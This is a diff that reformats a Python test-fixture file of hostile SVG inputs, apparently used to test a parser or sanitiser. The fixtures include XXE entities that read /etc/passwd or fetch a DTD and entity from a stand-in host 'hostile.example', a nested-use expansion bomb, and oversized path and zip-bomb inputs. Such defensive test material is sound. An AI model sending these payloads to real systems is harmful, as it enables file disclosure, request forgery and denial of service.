@@ -55,9 +55,7 @@ def svg(inside: str, attributes: str = "") -> bytes:
 
 def _doubling(levels: int) -> str:
     """Groups that each show the next one ten times."""
-    groups = (
-        f'<g id="g{one}">' + f'<use href="#g{one + 1}"/>' * 10 + "</g>" for one in range(levels)
-    )
+    groups = (f'<g id="g{one}">' + f'<use href="#g{one + 1}"/>' * 10 + "</g>" for one in range(levels))
     return f'<defs>{"".join(groups)}<g id="g{levels}"><rect width="1" height="1"/></g></defs><use href="#g0"/>'
 
 
@@ -157,9 +155,7 @@ FILES: dict[str, Callable[[], bytes]] = {
     "an entity that is a file": lambda: (
         b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + svg("<text>&a;</text>")
     ),
-    "an entity on the web": lambda: (
-        b'<!DOCTYPE svg [<!ENTITY % a SYSTEM "http://hostile.example/a"> %a;]>' + svg("")
-    ),
+    "an entity on the web": lambda: b'<!DOCTYPE svg [<!ENTITY % a SYSTEM "http://hostile.example/a"> %a;]>' + svg(""),
     "a document type on the web": lambda: (
         b'<!DOCTYPE svg SYSTEM "http://hostile.example/a.dtd">' + svg("<text>&a;</text>")
     ),
@@ -177,8 +173,7 @@ FILES: dict[str, Callable[[], bytes]] = {
     "a million rectangles": lambda: svg("<rect/>" * 1_000_000),
     "30,000 rectangles": lambda: svg("<rect/>" * 30_000),
     "a marker on each of 100,000 points": lambda: svg(
-        '<marker id="m"><rect width="1" height="1"/></marker>'
-        f'<path marker-mid="url(#m)" d="M0 0{"h1" * 100_000}"/>'
+        f'<marker id="m"><rect width="1" height="1"/></marker><path marker-mid="url(#m)" d="M0 0{"h1" * 100_000}"/>'
     ),
     "8 MB of path": lambda: svg('<path d="M0 0' + "h1" * 4_000_000 + '"/>'),
     "10 GB of zeros": lambda: _zip_of_zeros(10 << 30),
